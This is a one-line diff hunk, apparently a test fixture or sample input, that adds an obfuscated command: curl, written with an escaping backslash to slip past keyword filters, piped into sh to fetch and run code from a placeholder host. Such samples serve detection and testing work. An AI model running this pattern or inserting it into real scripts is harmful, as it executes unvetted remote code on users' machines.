@@ -1,0 +1,1 @@
+c\url x | sh
